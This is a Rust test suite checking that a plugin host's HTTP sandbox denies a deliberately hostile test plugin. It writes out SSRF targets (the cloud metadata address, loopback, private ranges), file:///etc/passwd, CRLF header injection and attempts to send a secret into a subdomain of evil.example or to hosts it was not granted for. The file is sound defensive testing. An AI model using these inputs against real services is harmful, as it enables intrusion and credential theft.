//! Tools that try to reach what nobody granted, against real servers: each denial with its golden text, and secrets that stay secret.

pub(crate) mod common;
#[path = "common/logged.rs"]
mod logged;
#[path = "common/server.rs"]
mod server;

use std::io::{self, Write};
use std::net::TcpStream;
use std::sync::atomic::Ordering;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use common::{compiler, host, prebuilt};
use logged::logged;
use serde_json::{Value, json};
use server::{Names, Server, answer};
use trainer_plugin_host::http::{Error, Request, Response};
use trainer_plugin_host::tools::{Call, Outcome};
use trainer_plugin_host::{
    Grants, HostOptions, Limits, Network, Outgoing, Plugin, PluginError, PluginHost, Span, ToolContext, ToolSession, Transport,
};

/// With characters that encodings change.
const VALUE: &str = "k3y/With+Odd&Chars=42";

/// `isolated.rs` holds this file as a module: there the tools run in processes of their own, and all must be the same.
const ISOLATED: bool = {
    let path = module_path!().as_bytes();
    path.len() > "http".len()
};

fn limits() -> Limits {
    Limits {
        http_time: Span::seconds(20),
        http_response_size: "64KiB".parse().unwrap(),
        http_request_size: "64KiB".parse().unwrap(),
        ..Limits::default()
    }
}

/// The evil tools with these grants and a secret KEY, in a host that knows these names.
struct Case {
    plugin: Arc<Plugin>,
    _secret: tempfile::NamedTempFile,
}

fn case(grants: &[&str], key: Option<&str>, names: Option<Arc<Names>>, limits: Limits) -> Case {
    let mut secret = tempfile::NamedTempFile::new().unwrap();
    writeln!(secret, "{VALUE}").unwrap();
    let source = key.map(|to| format!("file:{}{to}", secret.path().display()));
    let secrets: Vec<(&str, &str)> = source.iter().map(|s| ("KEY", s.as_str())).collect();
    let grants = Grants::parse(grants.iter().copied(), secrets).unwrap();
    let mut options = HostOptions { worker_instances: 1, ..HostOptions::new(compiler()) };
    if let Some(names) = names {
        options.network = Network { resolver: names, ..Network::default() };
    }
    options.process = Some(common::process());
    let (host, source) = (PluginHost::new(options).unwrap(), prebuilt("test/evil_tools"));
    let plugin = if ISOLATED { host.load_isolated(&source, limits, grants) } else { host.load_with(&source, limits, grants) }.unwrap();
    Case { plugin, _secret: secret }
}

fn context() -> ToolContext {
    ToolContext { settings: json!({}), seed: 1, now_ms: 0 }
}

fn calls(arguments: &Value) -> [Call; 1] {
    [Call { name: "evil".into(), arguments: arguments.to_string() }]
}

fn call(session: &mut ToolSession, arguments: &Value) -> Result<Value, String> {
    match session.call(&calls(arguments)).unwrap().pop().unwrap() {
        Outcome::Ok(json) => Ok(serde_json::from_str(&json).unwrap()),
        Outcome::ToolError(words) => Err(words),
    }
}

impl Case {
    fn call(&self, arguments: &Value) -> Result<Value, String> {
        call(&mut self.plugin.tool_session(&context()).unwrap(), arguments)
    }

    fn fetch(&self, url: &str) -> Result<Value, String> {
        self.call(&json!({ "evil": "fetch", "url": url }))
    }
}

/// A server that answers every path with its name, and some with something worse.
fn routes() -> Server {
    Server::start(|request, stream| {
        let path = request.split(' ').nth(1).unwrap_or_default();
        let target = path.split_once("?to=").map(|(_, to)| to.replace("%26", "&"));
        match path.split('?').next().unwrap_or_default() {
            "/redirect" => answer(stream, &format!("302 Found\r\nlocation: {}", target.unwrap()), ""),
            "/echo" => answer(stream, &format!("200 OK\r\nx-echo: {}", head_value(request)), request),
            "/gigabyte" => {
                write!(stream, "HTTP/1.1 200 OK\r\ncontent-length: {}\r\n\r\n", 1_u64 << 30)?;
                flood(stream)
            }
            "/endless" => {
                write!(stream, "HTTP/1.1 200 OK\r\nconnection: close\r\n\r\n")?;
                flood(stream)
            }
            "/chunks" => {
                write!(stream, "HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n")?;
                loop {
                    write!(stream, "400\r\n{}\r\n", "x".repeat(1024))?;
                }
            }
            "/headers" => {
                write!(stream, "HTTP/1.1 200 OK\r\n")?;
                loop {
                    write!(stream, "x-more: {}\r\n", "x".repeat(1024))?;
                }
            }
            "/slow" => {
                write!(stream, "HTTP/1.1 200 OK\r\ncontent-length: 1000\r\n\r\n")?;
                loop {
                    stream.write_all(b"x")?;
                    std::thread::sleep(Duration::from_millis(20));
                }
            }
            // Until the client goes away.
            "/silent" => io::copy(stream, &mut io::sink()).map(drop),
            "/gzip" => answer(stream, "200 OK\r\ncontent-encoding: gzip", "zzz"),
            "/garbage" => stream.write_all(b"SSH-2.0-OpenSSH_9.2\r\n"),
            "/gone" => Ok(()),
            _ => answer(stream, "200 OK", path),
        }
    })
}

fn flood(stream: &mut TcpStream) -> io::Result<()> {
    let block = vec![b'x'; 64 << 10];
    loop {
        stream.write_all(&block)?;
    }
}

/// The value of the request's x-key header.
fn head_value(request: &str) -> &str {
    request.lines().find_map(|l| l.strip_prefix("x-key: ")).unwrap_or_default()
}

/// Texts without ports.
fn neutral(text: &str, servers: &[(&Server, &str)]) -> String {
    servers.iter().fold(text.to_owned(), |text, (server, name)| text.replace(&format!(":{}", server.port()), name))
}

#[test]
fn a_granted_server_answers() {
    let server = routes();
    let case = case(&[&format!("http=GET,POST http://{}", server.address)], None, None, limits());
    let answer = case.fetch(&server.url("/hello?x=1#fragment")).unwrap();
    assert_eq!((answer["status"].as_u64(), answer["body"].as_str()), (Some(200), Some("/hello?x=1")));
    let sent = &server.requests()[0];
    assert!(sent.starts_with("GET /hello?x=1 HTTP/1.1\r\n"), "{sent}");
    assert!(sent.contains(&format!("host: {}\r\n", server.address)) && sent.contains("accept-encoding: identity\r\n"), "{sent}");
    let answer = case.call(&json!({"evil": "fetch", "method": "POST", "url": server.url("/echo"), "body": "a body"})).unwrap();
    assert!(answer["body"].as_str().unwrap().ends_with("\r\n\r\na body"), "{answer}");
    // A redirect on the same server is followed, and the answer to what is not reading is given as it is.
    assert_eq!(case.fetch(&server.url("/redirect?to=/there")).unwrap()["body"], "/there");
    let answer = case.call(&json!({"evil": "fetch", "method": "POST", "url": server.url("/redirect?to=/there")})).unwrap();
    assert_eq!(answer["status"], 302);
}

#[test]
fn nothing_is_granted_by_default() {
    let case = case(&[], None, None, limits());
    assert_eq!(
        case.fetch("https://api.example.com/x").unwrap_err(),
        "denied: plugin `evil_tools` may not send GET to https://api.example.com: no server is granted to it; to allow it: --grant \
         evil_tools:http=https://api.example.com, or in the recipe: [plugins.evil_tools] grants = [\"http=https://api.example.com\"]"
    );
    assert_eq!(
        case.call(&json!({"evil": "output", "secret": "KEY"})).unwrap_err(),
        "plugin `evil_tools` has no secret KEY: grant it with --secret evil_tools:KEY=env:KEY, or in the recipe: \
         [plugins.evil_tools.secrets] KEY = \"env:KEY\""
    );
    assert_eq!(
        case.call(&json!({"evil": "output", "secret": "UNDECLARED"})).unwrap_err(),
        "the manifest of plugin `evil_tools` 0.1.0 does not ask for the secret `UNDECLARED`: add \"secret: NAME\" to its needs"
    );
    let missing: Vec<String> = case.plugin.missing_grants().iter().filter_map(|n| n.flag("evil_tools")).collect();
    assert_eq!(missing, ["--grant evil_tools:http=https://HOST", "--secret evil_tools:KEY=env:KEY", "--secret evil_tools:OTHER=env:OTHER"]);
    assert!(case.plugin.grants().is_empty());
}

#[test]
fn golden_denials() {
    let (server, other) = (routes(), routes());
    let to = |url: &str| server.url(&format!("/redirect?to={url}"));
    let case = case(&[&format!("http=http://{}", server.address)], Some(""), None, limits());
    let granted = "it is granted http=http://127.0.0.1[A]; to allow it: ";
    let not_granted = |url: &str| {
        format!(
            "plugin `evil_tools` may not send GET to {url}: {granted}--grant evil_tools:http={url}, or in the recipe: [plugins.evil_tools] \
             grants = [\"http={url}\"]"
        )
    };
    let redirected = |text: &str| format!("denied: after a redirect from http://127.0.0.1[A]: {text}");
    let cases = [
        // Other hosts, and every kind of address that is not the public internet.
        ("https://evil.example/".to_owned(), format!("denied: {}", not_granted("https://evil.example"))),
        ("http://10.0.0.1/".into(), format!("denied: {}", not_granted("http://10.0.0.1"))),
        ("http://192.168.0.1/".into(), format!("denied: {}", not_granted("http://192.168.0.1"))),
        ("http://169.254.169.254/latest/meta-data/".into(), format!("denied: {}", not_granted("http://169.254.169.254"))),
        ("http://[::1]:8080/".into(), format!("denied: {}", not_granted("http://[::1]:8080"))),
        ("http://[::ffff:127.0.0.1]/".into(), format!("denied: {}", not_granted("http://[::ffff:127.0.0.1]"))),
        ("http://2130706433/".into(), format!("denied: {}", not_granted("http://2130706433"))),
        // The same host on another port, and by another name.
        (other.url("/"), format!("denied: {}", not_granted("http://127.0.0.1[B]"))),
        (format!("http://localhost:{}/", server.port()), format!("denied: {}", not_granted("http://localhost[A]"))),
        // What is no web address.
        (
            "file:///etc/passwd".into(),
            "invalid: plugin `evil_tools`: the address `file:///etc/passwd` cannot be used: it is no address of the form \
             https://HOST/PATH?QUERY"
                .into(),
        ),
        (
            "ftp://127.0.0.1/".into(),
            "invalid: plugin `evil_tools`: the address `ftp://127.0.0.1/` cannot be used: the scheme `ftp` is neither http nor https".into(),
        ),
        (
            "http://ho\u{1b}[2Jst/\r\n".into(),
            "invalid: plugin `evil_tools`: the address `http://ho\\u{1b}[2Jst/\\r\\n` cannot be used: it holds the character '\\u{1b}', which \
             has to be percent-encoded"
                .into(),
        ),
        (
            format!("http://127.0.0.1:{}@evil.example/", server.port()),
            "invalid: plugin `evil_tools`: the address `http://127.0.0.1[A]@evil.example/` cannot be used: user information before an `@` \
             is not taken; use a header and a secret"
                .into(),
        ),
        // Redirects: each hop is checked again.
        (to("http://localhost/"), redirected(&not_granted("http://localhost"))),
        (to(&other.url("/")), redirected(&not_granted("http://127.0.0.1[B]"))),
        (to("https://evil.example/x"), redirected(&not_granted("https://evil.example"))),
        (to("//evil.example/x"), redirected(&not_granted("http://evil.example"))),
        (
            to("file:///etc/passwd"),
            redirected(
                "plugin `evil_tools`: the address `file:///etc/passwd` cannot be used: it is no address of the form \
                 https://HOST/PATH?QUERY",
            ),
        ),
    ];
    for (url, golden) in cases {
        let words = neutral(&case.fetch(&url).unwrap_err(), &[(&server, "[A]"), (&other, "[B]")]);
        assert_eq!(words, golden, "{url}");
    }
    assert!(other.requests().is_empty(), "{:?}", other.requests());
    let words = case.call(&json!({"evil": "fetch", "method": "DELETE", "url": server.url("/")})).unwrap_err();
    assert_eq!(
        neutral(&words, &[(&server, "")]),
        "denied: plugin `evil_tools` may not send DELETE to http://127.0.0.1: it is granted http=http://127.0.0.1; to allow it: --grant \
         'evil_tools:http=DELETE http://127.0.0.1', or in the recipe: [plugins.evil_tools] grants = [\"http=DELETE http://127.0.0.1\"]"
    );
    let loops = to("/redirect?to=/redirect?to=/redirect?to=/redirect?to=/x");
    assert_eq!(
        neutral(&case.fetch(&loops).unwrap_err(), &[(&server, "")]),
        "limit: plugin `evil_tools`: http://127.0.0.1 redirected more than 3 times"
    );
}

#[test]
fn headers_cannot_be_forged() {
    let server = routes();
    let case = case(&[&format!("http=GET,POST http://{}", server.address)], None, None, limits());
    for (name, value, golden) in [
        ("x-a", "b\r\nx-evil: 1", "the value of the header `x-a` holds the character '\\r'; a value is one line of printable ASCII"),
        ("x-a", "b\n", "the value of the header `x-a` holds the character '\\n'; a value is one line of printable ASCII"),
        ("x-a", "b\0", "the value of the header `x-a` holds the character '\\0'; a value is one line of printable ASCII"),
        ("x-a\r\nx-evil", "1", "the header name `x-a\\r\\nx-evil` holds characters that no name has"),
        ("Host", "evil.example", "the header `host` is the host's to set"),
        ("Content-Length", "0", "the header `content-length` is the host's to set"),
        ("transfer-encoding", "chunked", "the header `transfer-encoding` is the host's to set"),
    ] {
        let words = case.call(&json!({"evil": "fetch", "url": server.url("/"), "headers": [[name, value]]})).unwrap_err();
        assert_eq!(words, format!("invalid: plugin `evil_tools`: {golden}"));
    }
    let words = case.call(&json!({"evil": "fetch", "url": server.url("/"), "method": "GET / HTTP/1.1\r\nx: y\r\n"})).unwrap_err();
    assert!(words.starts_with("invalid: plugin `evil_tools`: the method `GET / HTTP/1.1\\r\\nx: y\\r\\n` is none of GET, "), "{words}");
    assert!(server.requests().is_empty());
}

#[test]
fn sizes_and_times_are_bounded() {
    let server = routes();
    let quick = Limits { http_time: Span::millis(300), http_requests: 3, ..limits() };
    let slow = case(&[&format!("http=GET,POST http://{}", server.address)], None, None, quick);
    let patient = case(&[&format!("http=GET,POST http://{}", server.address)], None, None, limits());
    let raise = |key: &str, value: &str| format!("raise it in the recipe: [plugins.evil_tools.limits] {key} = {value}");
    let began = Instant::now();
    let too_large = format!(
        "limit: plugin `evil_tools`: the answer of http://127.0.0.1 has more than 64KiB, its http_response_size limit; {}",
        raise("http_response_size", "\"128KiB\"")
    );
    let late = format!(
        "timeout: plugin `evil_tools`: http://127.0.0.1 did not answer in full within 300ms, its http_time limit; {}",
        raise("http_time", "\"600ms\"")
    );
    for (case, path, golden) in [
        (&patient, "/gigabyte", too_large.as_str()),
        (&patient, "/endless", &too_large),
        (&patient, "/chunks", &too_large),
        (&patient, "/headers", "limit: plugin `evil_tools`: the headers of http://127.0.0.1's answer are too large"),
        (&slow, "/slow", &late),
        (&slow, "/silent", &late),
        (&patient, "/gzip", "protocol: plugin `evil_tools`: http://127.0.0.1 compressed its answer although it was asked not to"),
    ] {
        assert_eq!(neutral(&case.fetch(&server.url(path)).unwrap_err(), &[(&server, "")]), golden, "{path}");
    }
    for path in ["/garbage", "/gone"] {
        let words = patient.fetch(&server.url(path)).unwrap_err();
        assert!(words.starts_with("protocol: plugin `evil_tools`: ") || words.starts_with("unreachable: "), "{words}");
    }
    assert_eq!(
        slow.call(&json!({"evil": "many", "url": server.url("/"), "count": 4})).unwrap_err(),
        format!("limit: plugin `evil_tools`: 3 requests in one call are allowed, its http_requests limit; {}", raise("http_requests", "6"))
    );
    assert_eq!(slow.call(&json!({"evil": "many", "url": server.url("/x"), "count": 3})).unwrap()["body"], "/x");
    let words = patient.call(&json!({"evil": "post", "url": server.url("/"), "size": 100_000})).unwrap_err();
    let start = "limit: plugin `evil_tools`: a request has 1000";
    assert!(words.starts_with(start) && words.ends_with(&raise("http_request_size", "\"128KiB\"")), "{words}");
    assert!(began.elapsed() < Duration::from_secs(60), "{:?}", began.elapsed());
}

#[test]
fn the_calls_own_deadline_holds_too() {
    let server = routes();
    let limits = Limits { deadline: Span::millis(300), ..limits() };
    let case = case(&[&format!("http=http://{}", server.address)], None, None, limits);
    let began = Instant::now();
    let mut session = case.plugin.tool_session(&context()).unwrap();
    // Either the tool still gets to tell, or it is stopped: the host waits no longer than it said.
    match session.call(&calls(&json!({"evil": "fetch", "url": server.url("/silent")}))) {
        Ok(outcomes) => {
            let [Outcome::ToolError(words)] = outcomes.as_slice() else { panic!("{outcomes:?}") };
            assert!(words.contains("within 300ms, its deadline limit"), "{words}");
        }
        Err(error) => assert!(matches!(error, PluginError::Deadline { .. }), "{error}"),
    }
    assert!(began.elapsed() < Duration::from_secs(10), "{:?}", began.elapsed());
}

#[test]
fn names_are_resolved_once_and_their_addresses_checked() {
    let server = routes();
    let port = server.port();
    let names = |answers: &[&[&str]]| Names::new(&[("server.test", answers), ("localhost", &[&["127.0.0.1"]])]);
    let url = format!("http://server.test:{port}/x");
    let grant = format!("http=http://*.test:{port}");
    let with = |grants: &[&str], names: &Arc<Names>| case(grants, None, Some(Arc::clone(names)), limits());
    let denied = |address: &str, what: &str| {
        format!(
            "denied: plugin `evil_tools` may not reach http://server.test: its address {address} is {what}, which has to be granted by \
             name; to allow it: --grant evil_tools:network={address}, or in the recipe: [plugins.evil_tools] grants = \
             [\"network={address}\"]"
        )
    };
    // A pattern of more than one label cannot be `*.test`; the name itself is granted.
    assert!(Grants::parse([grant.as_str()], []).is_err());
    let grant = format!("http=http://server.test:{port}");
    for (address, what) in [
        ("127.0.0.1", "a loopback address"),
        ("10.1.2.3", "a private address"),
        ("172.20.0.1", "a private address"),
        ("192.168.1.1", "a private address"),
        ("169.254.169.254", "a link-local address"),
        ("100.100.100.100", "a carrier-grade NAT address"),
        ("224.0.0.1", "a multicast address"),
        ("0.0.0.0", "an unspecified address"),
        ("::1", "a loopback address"),
        ("fd12::1", "a unique local address"),
        ("fe80::1", "a link-local address"),
        ("::ffff:127.0.0.1", "an IPv4-mapped address"),
        ("64:ff9b::127.0.0.1", "a loopback address"),
    ] {
        let address = address.parse::<std::net::IpAddr>().unwrap().to_string();
        let words = with(&[&grant], &names(&[&[&address]])).fetch(&url).unwrap_err();
        assert_eq!(neutral(&words, &[(&server, "")]), denied(&address, what));
    }
    // One bad address among good ones is enough.
    let mixed = names(&[&["1.1.1.1", "10.0.0.1"]]);
    assert_eq!(neutral(&with(&[&grant], &mixed).fetch(&url).unwrap_err(), &[(&server, "")]), denied("10.0.0.1", "a private address"));
    // Granted by name, it is reached; each request looks the name up once, and a name that changes its answer gains nothing.
    let changing = names(&[&["127.0.0.1"], &["10.0.0.1"]]);
    let open = with(&[&grant, "network=127.0.0.1"], &changing);
    assert_eq!(open.fetch(&url).unwrap()["body"], "/x");
    assert_eq!(changing.asked.load(Ordering::SeqCst), 1);
    assert!(server.requests()[0].contains(&format!("host: server.test:{port}\r\n")), "{:?}", server.requests());
    assert_eq!(neutral(&open.fetch(&url).unwrap_err(), &[(&server, "")]), denied("10.0.0.1", "a private address"));
    // `localhost` names loopback by itself, but a redirect does not carry that over.
    let local = with(&[&format!("http=http://localhost:{port}"), &grant], &names(&[&["127.0.0.1"]]));
    assert_eq!(local.fetch(&format!("http://localhost:{port}/y")).unwrap()["body"], "/y");
    let words = local.fetch(&format!("http://localhost:{port}/redirect?to={url}")).unwrap_err();
    assert_eq!(neutral(&words, &[(&server, "")]), denied("127.0.0.1", "a loopback address"));
    // A name without an address.
    let words = with(&[&format!("http=http://nowhere.test:{port}")], &changing).fetch(&format!("http://nowhere.test:{port}/")).unwrap_err();
    assert_eq!(words, "unreachable: plugin `evil_tools`: the name nowhere.test does not resolve: no such name");
}

/// No form of the secret or of its placeholder.
fn assert_clean(text: &str) {
    let lower = text.to_lowercase();
    for form in [VALUE, "k3y%2FWith%2BOdd%26Chars%3D42", "k3y/With+Odd&amp;Chars=42", "a3N5L1dpdGg", "trainer_secret_"] {
        assert!(!lower.contains(&form.to_lowercase()), "{form} in {text}");
    }
}

#[test]
fn a_secret_reaches_its_server_and_nothing_else() {
    let server = routes();
    let case = case(&[&format!("http=GET,POST http://{}", server.address)], Some(""), None, limits());
    let url = server.url("/echo?q=London&appid={KEY}&z=1");
    let arguments = json!({"evil": "fetch", "url": url, "headers": [["x-key", "Bearer {KEY}"], ["x-again", "{KEY}{KEY}"]]});
    let (answer, log) = logged(|| case.call(&arguments).unwrap());
    let sent = server.requests().pop().unwrap();
    assert!(sent.starts_with("GET /echo?q=London&appid=k3y%2FWith%2BOdd%26Chars%3D42&z=1 HTTP/1.1\r\n"), "{sent}");
    assert!(sent.contains(&format!("x-key: Bearer {VALUE}\r\n")) && sent.contains(&format!("x-again: {VALUE}{VALUE}\r\n")), "{sent}");
    // The server sent all of it back.
    let body = answer["body"].as_str().unwrap();
    assert!(body.contains("appid=[secret KEY]&z=1") && body.contains("x-again: [secret KEY][secret KEY]"), "{body}");
    assert!(answer["headers"].to_string().contains("Bearer [secret KEY]"), "{answer}");
    assert_clean(&answer.to_string());
    assert_clean(&log);
    assert!(log.contains("fetched") && log.contains("appid=[secret KEY]"), "{log}");

    // The ways in which a guest can show what it holds.
    for payload in ["output", "tool_error", "log", "digest"] {
        let ((outcome, digest), log) = logged(|| {
            let mut session = case.plugin.tool_session(&context()).unwrap();
            (call(&mut session, &json!({"evil": payload, "secret": "KEY"})), session.state_digest().unwrap())
        });
        let all = format!("{outcome:?} {digest:?} {log}");
        assert_clean(&all);
        assert!(all.contains("[secret KEY]"), "{payload}: {all}");
    }
    for arguments in [json!({"evil": "panic", "secret": "KEY"}), json!({"evil": "shout", "url": server.url("/echo?appid={KEY}")})] {
        let (error, log) = logged(|| case.plugin.tool_session(&context()).unwrap().call(&calls(&arguments)).unwrap_err());
        assert!(matches!(error, PluginError::Trap { .. }) && error.to_string().contains("[secret KEY]"), "{error}");
        assert_clean(&format!("{error} {error:?} {log}"));
    }
    assert_clean(&format!("{:?} {:?}", case.plugin, case.plugin.grants()));
    assert_eq!(
        neutral(&case.plugin.grants().join("; "), &[(&server, "")]),
        "http=GET,POST http://127.0.0.1; secret=KEY from file to http://127.0.0.1"
    );
}

#[test]
fn a_secret_goes_only_where_it_was_granted() {
    let (server, other) = (routes(), routes());
    let grants = [format!("http=GET,POST http://{}", server.address), format!("http=http://{}", other.address)];
    let grants: Vec<&str> = grants.iter().map(String::as_str).collect();
    let case = case(&grants, Some(&format!(" to http://{}", server.address)), None, limits());
    let fetch = |url: String, header: Option<(&str, &str)>| {
        case.call(&json!({"evil": "fetch", "url": url, "headers": header.into_iter().collect::<Vec<_>>()}))
    };
    for words in [fetch(other.url("/?k={KEY}"), None), fetch(other.url("/"), Some(("x-key", "{KEY}")))] {
        assert_eq!(
            neutral(&words.unwrap_err(), &[(&server, "[A]"), (&other, "[B]")]),
            "denied: plugin `evil_tools` may not send the secret KEY to http://127.0.0.1[B]: it is granted for http://127.0.0.1[A]; to \
             allow it: KEY = \"... to http://127.0.0.1[B]\" in [plugins.evil_tools.secrets] of the recipe"
        );
    }
    assert!(other.requests().is_empty());
    // A redirect to another granted server does not take it along; ordinary headers go on.
    let url = server.url(&format!("/redirect?to={}", other.url("/echo")));
    let headers = json!([["x-key", "{KEY}"], ["authorization", "plain"], ["x-plain", "stays"]]);
    case.call(&json!({"evil": "fetch", "url": url, "headers": headers})).unwrap();
    let got = other.requests().pop().unwrap();
    assert!(got.contains("x-plain: stays") && !got.contains("x-key") && !got.contains("authorization") && !got.contains(VALUE), "{got}");
    assert!(server.requests().pop().unwrap().contains(VALUE));
    // Where a server would keep or show it.
    for (arguments, place) in [
        (json!({"evil": "fetch", "url": server.url("/{KEY}")}), "the address before its query"),
        (json!({"evil": "fetch", "url": server.url("/?{KEY}=1")}), "the name of a query parameter"),
        (json!({"evil": "fetch", "url": server.url("/"), "headers": [["x-{KEY}", "1"]]}), "the name of a header"),
        (json!({"evil": "fetch", "url": server.url("/"), "method": "POST", "body": "text={KEY}"}), "the body"),
    ] {
        assert_eq!(
            case.call(&arguments).unwrap_err(),
            format!(
                "invalid: plugin `evil_tools`: the secret KEY may not stand in {place}, only in values of headers and query parameters"
            )
        );
    }
    // In a server's name.
    let words = fetch("http://{KEY}.evil.example/".to_owned(), None).unwrap_err();
    assert!(words.starts_with("denied: ") || words.starts_with("invalid: "), "{words}");
    assert_clean(&words);
}

#[test]
fn a_secret_that_is_not_there_says_so_when_it_is_used() {
    let grants = Grants::parse(["http=https://a.example.com"], [("KEY", "env:TRAINER_TEST_NEVER_SET")]).unwrap();
    let plugin = host().load_with(&prebuilt("test/evil_tools"), limits(), grants).unwrap();
    let mut session = plugin.tool_session(&context()).unwrap();
    assert_eq!(
        call(&mut session, &json!({"evil": "output", "secret": "KEY"})).unwrap_err(),
        "plugin `evil_tools` cannot use the secret KEY: the environment variable TRAINER_TEST_NEVER_SET is not set"
    );
}

#[test]
fn grants_that_a_plugin_does_not_ask_for_are_refused() {
    let load = |name: &str, grants: &[&str], secrets: &[(&str, &str)]| {
        let grants = Grants::parse(grants.iter().copied(), secrets.iter().copied()).unwrap();
        host().load_with(&prebuilt(name), Limits::default(), grants).unwrap_err().to_string()
    };
    assert_eq!(
        load("calculator", &["http=https://a.bc"], &[]),
        "plugin `calculator` 0.1.0 is granted http=https://a.bc, but its manifest does not ask for http: remove the grant"
    );
    assert_eq!(
        load("calculator", &[], &[("KEY", "env:KEY")]),
        "plugin `calculator` 0.1.0 is granted the secret KEY, but its manifest asks for no secret: remove the grant"
    );
    assert_eq!(
        load("test/evil_tools", &["http=https://a.bc"], &[("OTHR", "env:KEY")]),
        "plugin `evil_tools` 0.1.0 is granted the secret OTHR, but its manifest asks for KEY, OTHER: remove the grant"
    );
}

/// What went over a transport, in its order.
type Tape = Arc<Mutex<Vec<(Request, Result<Response, Error>)>>>;

struct Recorder {
    inner: Arc<dyn Transport>,
    tape: Tape,
}

impl Transport for Recorder {
    fn fetch(&self, outgoing: &Outgoing<'_>) -> Result<Response, Error> {
        let result = self.inner.fetch(outgoing);
        self.tape.lock().unwrap().push((outgoing.redacted.clone(), result.clone()));
        result
    }
}

struct Player(Tape);

impl Transport for Player {
    fn fetch(&self, outgoing: &Outgoing<'_>) -> Result<Response, Error> {
        let tape = self.0.lock().unwrap();
        let found = tape.iter().find(|(request, _)| *request == outgoing.redacted);
        found.map_or_else(|| Err(Error::Unreachable(format!("not on the tape: {}", outgoing.redacted.url))), |(_, result)| result.clone())
    }

    fn replays(&self) -> bool {
        true
    }
}

#[test]
fn a_recording_holds_no_secret_and_plays_without_grants_or_network() {
    let tape = Tape::default();
    let arguments;
    let recorded;
    {
        let server = routes();
        arguments = json!({"evil": "fetch", "url": server.url("/echo?appid={KEY}"), "headers": [["x-key", "{KEY}"]]});
        let case = case(&[&format!("http=http://{}", server.address)], Some(""), None, limits());
        let recorder = Recorder { inner: case.plugin.transport(), tape: Arc::clone(&tape) };
        let mut session = case.plugin.tool_session_through(&context(), Arc::new(recorder)).unwrap();
        recorded = call(&mut session, &arguments).unwrap();
    }
    let text = serde_json::to_string(&*tape.lock().unwrap()).unwrap();
    assert_clean(&text);
    assert!(text.contains("appid=[secret KEY]"), "{text}");
    // The server is gone, another host has another placeholder, and nothing is granted.
    let case = case(&[], None, None, limits());
    let mut session = case.plugin.tool_session_through(&context(), Arc::new(Player(tape))).unwrap();
    assert_eq!(call(&mut session, &arguments).unwrap(), recorded);
    let words = call(&mut session, &json!({"evil": "fetch", "url": "https://elsewhere.example/?k={KEY}"})).unwrap_err();
    assert_eq!(words, "unreachable: not on the tape: https://elsewhere.example/?k=[secret KEY]");
}
